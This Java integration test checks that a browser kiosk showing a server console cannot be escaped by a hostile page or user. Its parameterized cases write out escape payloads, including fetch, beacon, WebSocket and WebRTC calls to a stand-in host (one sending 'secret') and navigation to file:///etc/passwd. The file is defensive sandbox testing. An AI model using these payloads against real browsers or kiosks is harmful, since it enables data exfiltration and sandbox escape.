package org.serverconsole.kiosk;

import static org.assertj.core.api.Assertions.assertThat;
import static org.serverconsole.parts.Kiosked.patiently;

import io.netty.channel.Channel;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.serverconsole.fake.Viewing;

/**
 * Every way out of a kiosk that a page, or a customer, has. Somewhere else, on this machine where it is nearest, waits for
 * anybody who comes; nobody does, and the console goes on.
 */
@Timeout(120)
class WaysOutIT {

    private static final int CONTROL = 0xFFE3;
    private static final int ALT = 0xFFE9;
    private static final int SHIFT = 0xFFE1;
    private static final int ENTER = 0xFF0D;
    private static final int F1 = 0xFFBE;
    private static final int LEFT = 1;
    private static final int MIDDLE = 2;

    /** A console whose page does whatever the site says, as one that is in the hands of somebody else would. */
    private static final String PAGE = """
            <canvas id="kvm" width="640" height="480" tabindex="0"></canvas><script>
            const canvas = document.querySelector('canvas');
            canvas.getContext('2d').fillText('console', 20, 20);
            const socket = new WebSocket('wss://' + location.host + '/kvm');
            const add = html => document.body.insertAdjacentHTML('beforeend', html);
            canvas.onkeydown = event => socket.send('key ' + event.key);
            socket.onmessage = ({data}) => {
              if (data.startsWith('run ')) {
                const [, id, script] = data.match(/run (\\S+) (.*)/s);
                try { eval(script); } catch (e) { socket.send('failed ' + id + ' ' + e); }
                setTimeout(() => socket.send('ran ' + id), 200);
              }
            };</script>""";

    @TempDir
    static Path folder;

    private static KioskHouse house;
    private static Kiosk kiosk;
    private static Viewing viewing;
    private Elsewhere elsewhere;
    /** Which of them is tried. */
    private String way;

    @BeforeAll
    static void open() throws Exception {
        house = new KioskHouse(folder, 2, 0);
        house.site().page("/console", PAGE);
        house.site().page("/worker.js", "");
        house.site().page("/file", "attachment:what is to be saved");
        kiosk = console("/console");
        viewing = Viewing.of(kiosk.connect(KioskHouse.PATIENCE));
    }

    private static Kiosk console(String path) throws Exception {
        return house.open(page -> {
            page.go(path);
            page.show("#kvm");
        });
    }

    @AfterAll
    static void close() {
        house.close();
    }

    @BeforeEach
    void start(TestInfo test) throws IOException {
        way = test.getDisplayName();
        elsewhere = Elsewhere.open();
        house.site().page("/redirect", "redirect:https://" + elsewhere.address() + "/");
        house.site().page("/service.js", "fetch('https://" + elsewhere.address() + "/')");
        house.site().page("/refresh", "<meta http-equiv=refresh content='0; url=https://" + elsewhere.address() + "/'>");
    }

    @AfterEach
    void stop() throws IOException {
        elsewhere.close();
    }

    /** Has the page do that; ELSEWHERE stands for host and port, STUN for those of UDP. */
    private void run(String script) {
        String id = UUID.randomUUID().toString();
        house.site().send("run " + id + " " + script.replace("ELSEWHERE", elsewhere.address()).replace("STUN", elsewhere.stun()));
        patiently().alias(way).until(() -> house.site().received().contains("ran " + id));
        assertThat(house.site().received()).noneMatch(each -> each.startsWith("failed " + id));
    }

    /** By the time that a key has gone to the BMC and back the page has done what it does. */
    private void assertTheConsoleGoesOnAndNobodyCame() throws IOException {
        int before = house.site().keys().length();
        patiently().alias(way).untilAsserted(() -> {
            viewing.type("k");
            assertThat(house.site().keys().substring(before)).contains("k");
        });
        assertThat(elsewhere.visitors()).as(way).isZero();
        assertThat(viewing.channel().isOpen()).as(way).isTrue();
        assertThat(kiosk.closed()).isNotDone();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            fetch                  | fetch('https://ELSEWHERE/').catch(() => 0)
            fetch without TLS      | fetch('http://ELSEWHERE/', {mode: 'no-cors'}).catch(() => 0)
            XMLHttpRequest         | const ask = new XMLHttpRequest(); ask.open('GET', 'https://ELSEWHERE/'); ask.send()
            beacon                 | navigator.sendBeacon('https://ELSEWHERE/', 'secret')
            event stream           | new EventSource('https://ELSEWHERE/')
            WebSocket              | new WebSocket('wss://ELSEWHERE/')
            WebSocket without TLS  | new WebSocket('ws://ELSEWHERE/')
            image                  | new Image().src = 'https://ELSEWHERE/'
            frame                  | add('<iframe src="https://ELSEWHERE/"></iframe>')
            script                 | document.head.append(Object.assign(document.createElement('script'), {src: 'https://ELSEWHERE/'}))
            style                  | add('<style>@import "https://ELSEWHERE/";</style>')
            form into a frame      | add('<iframe name=f></iframe><form target=f method=post action="https://ELSEWHERE/"></form>'); \
            document.forms[document.forms.length - 1].submit()
            preconnection          | add('<link rel=preconnect href="https://ELSEWHERE/">')
            302 of a request       | fetch('/redirect').catch(() => 0)
            302 of a frame         | add('<iframe src="/redirect"></iframe>')
            refresh of a frame     | add('<iframe src="/refresh"></iframe>')
            worker                 | new Worker(URL.createObjectURL(new Blob(['fetch("https://ELSEWHERE/")'])))
            service worker         | navigator.serviceWorker.register('/service.js')
            """)
    void whatAPageAsksElsewhereForTheGateRefuses(String name, String script) throws Exception {
        run(script);

        patiently().alias(way).until(() -> kiosk.hasRefused(elsewhere.address()));
        assertTheConsoleGoesOnAndNobodyCame();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            window.open            | window.open('https://ELSEWHERE/')
            link, target _blank    | add('<a id=blank target=_blank href="https://ELSEWHERE/">a</a>'); document.querySelector('#blank').click()
            form, target _blank    | add('<form target=_blank action="https://ELSEWHERE/"></form>'); document.forms[document.forms.length - 1].submit()
            file://                | location = 'file:///etc/passwd'
            file:// in a frame     | add('<iframe src="file:///etc/passwd"></iframe>')
            view-source:           | location = 'view-source:https://ELSEWHERE/'
            chrome://              | location = 'chrome://version'
            another program        | location = 'mailto:somebody@ELSEWHERE'
            printing               | print()
            printing of a frame    | add('<iframe id=paper></iframe>'); document.querySelector('#paper').contentWindow.print()
            name                   | add('<link rel=dns-prefetch href="//elsewhere.example/">')
            full screen            | canvas.requestFullscreen().catch(() => 0)
            WebRTC                 | const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:STUN'}]}); \
            peer.createDataChannel('out'); peer.createOffer().then(offer => peer.setLocalDescription(offer))
            """)
    void whatAPageWouldHaveTheBrowserDoItDoesNot(String name, String script) throws Exception {
        int pages = pages();
        Set<String> programs = programs();

        run(script);

        assertTheConsoleGoesOnAndNobodyCame();
        assertThat(elsewhere.datagrams()).as(way).isZero();
        assertThat(saved()).as(way).isEmpty();
        assertThat(programs()).as(way).isSubsetOf(programs);
        patiently().alias(way).untilAsserted(() -> assertThat(pages()).as(way).isLessThanOrEqualTo(pages));
    }

    private static Set<String> programs() {
        return kiosk.processes().stream().flatMap(process -> process.info().command().stream()).collect(Collectors.toSet());
    }

    /** What has been saved below the kiosk's folder, which is the browser's home. */
    private static List<Path> saved() throws IOException {
        try (Stream<Path> files = Files.walk(kiosk.folder())) {
            return files.filter(file -> file.getFileName().toString().matches("file.*|.*crdownload")).toList();
        }
    }

    private static int pages() throws Exception {
        return kiosk.pages();
    }

    /** Leaving the page is the end of the console, wherever to. */
    /** Chromium may crash a moment after it has been refused a download, so that each has a kiosk of its own. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            a link                 | add('<a id=save download href="/file">a</a>'); document.querySelector('#save').click()
            an answer              | location = '/file'
            """)
    void whatIsDownloadedIsNotKept(String name, String script) throws Exception {
        run(script);

        assertTheConsoleGoesOnAndNobodyCame();
        assertThat(saved()).as(way).isEmpty();
        kiosk.close();
        kiosk = console("/console");
        viewing = Viewing.of(kiosk.connect(KioskHouse.PATIENCE));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            location               | location = 'https://ELSEWHERE/'
            302                    | location = '/redirect'
            refresh                | location = '/refresh'
            form                   | add('<form action="https://ELSEWHERE/"></form>'); document.forms[0].submit()
            """)
    void aPageThatLeavesForAnotherAddressIsTheEnd(String name, String script) throws Exception {
        house.site().page("/leaving", PAGE.replace("</script>", "socket.onopen = () => setTimeout(() => { "
                + script.replace("ELSEWHERE", elsewhere.address()) + " }, 300);</script>"));

        Channel channel = console("/leaving").connect(KioskHouse.PATIENCE);

        patiently().alias(way).until(() -> !channel.isOpen());
        assertThat(elsewhere.visitors()).as(way).isZero();
    }

    /** The keys with which a browser is left are the server's; what is typed after them is no address. */
    @ParameterizedTest(name = "control, {0}")
    @ValueSource(strings = {"l", "n", "t", "w", "o", "j", "h", "u", "p", "s", "f", "d", "shift n", "shift i", "shift j", "shift c", "shift t"})
    void aKeyWithControlIsTheServers(String keys) throws Exception {
        List<Integer> chord = new ArrayList<>(List.of(CONTROL));
        for (String key : keys.split(" ")) {
            chord.add(key.equals("shift") ? SHIFT : (int) key.charAt(0));
        }

        assertTyped(chord.stream().mapToInt(Integer::intValue).toArray());
    }

    @ParameterizedTest(name = "F{0}")
    @ValueSource(ints = {1, 3, 4, 5, 6, 10, 11, 12})
    void aFunctionKeyIsTheServers(int number) throws Exception {
        int before = house.site().keys().length();

        assertTyped(F1 + number - 1);

        assertThat(house.site().keys().substring(before)).contains("F" + number + "https");
        assertTyped(ALT, F1 + number - 1);
    }

    /** With which an X server may be ended, a system restarted, and a window closed or another chosen. */
    @ParameterizedTest(name = "control, alt, {0}")
    @ValueSource(ints = {0xFF08, 0xFFFF, 0xFF09, F1})
    void aKeyWithControlAndAltIsTheServers(int keysym) throws Exception {
        assertTyped(CONTROL, ALT, keysym);
    }

    private void assertTyped(int... chord) throws Exception {
        int pages = pages();
        int before = house.site().keys().length();

        viewing.chord(chord);
        viewing.type("https://" + elsewhere.address() + "/");
        viewing.type(ENTER);

        patiently().alias(way).untilAsserted(() -> assertThat(house.site().keys().substring(before).replace("Shift", ""))
                .endsWith("https://" + elsewhere.address() + "/Enter"));
        assertTheConsoleGoesOnAndNobodyCame();
        assertThat(pages()).as(way).isEqualTo(pages);
    }

    /** Dropped on a page, a browser opens what it is. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            link                   | <a href="https://ELSEWHERE/">https://ELSEWHERE/</a>
            text                   | <span>https://ELSEWHERE/</span>
            picture                | <img alt="https://ELSEWHERE/" width=200 height=60 src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">
            """)
    void whatIsDraggedGoesNowhere(String name, String html) throws Exception {
        run("add('<div id=thing data-kiosk style=\"font-size:40px;width:400px;height:80px;background:#fff\">" + html + "</div>');"
                + " getSelection().selectAllChildren(document.querySelector('#thing'))");

        viewing.drag(60, 25, 300, 300);
        viewing.drag(60, 25, 5, 5);

        run("document.querySelector('#thing').remove(); canvas.focus()");
        assertTheConsoleGoesOnAndNobodyCame();
    }

    @Test
    void aFileOfThisMachineIsNotChosen() throws Exception {
        run("add('<input id=choose type=file onchange=\"socket.send(`key chosen`)\">');"
                + " canvas.onmousedown = () => { document.querySelector('#choose').click(); canvas.focus(); }");

        viewing.click(100, 100, LEFT);

        assertTheConsoleGoesOnAndNobodyCame();
        run("canvas.onmousedown = null");
        assertThat(house.site().keys()).doesNotContain("chosen");
    }

    /** A click may open a window, unlike a script, and a window would have the keyboard. */
    @ParameterizedTest(name = "button {0}")
    @ValueSource(ints = {LEFT, MIDDLE})
    void aClickOpensNoWindow(int button) throws Exception {
        int pages = pages();
        run("const link = Object.assign(document.createElement('a'), {href: 'https://ELSEWHERE/', target: '_blank'});"
                + " canvas.replaceWith(link); link.append(canvas); canvas.focus();"
                + " canvas.onmousedown = () => window.open('https://ELSEWHERE/'); canvas.onmouseup = () => canvas.focus();");

        viewing.click(100, 100, button);

        assertTheConsoleGoesOnAndNobodyCame();
        assertThat(pages()).as(way).isEqualTo(pages);
        run("canvas.parentNode.replaceWith(canvas); canvas.focus(); canvas.onmousedown = canvas.onmouseup = null");
    }

    /** The menu of the right button, and what is pasted with the middle one. */
    @Test
    void aClickOpensNoMenu() throws Exception {
        for (int button : Arrays.asList(4, MIDDLE)) {
            viewing.click(100, 100, button);
            viewing.type(ENTER);
        }

        assertTheConsoleGoesOnAndNobodyCame();
    }
}
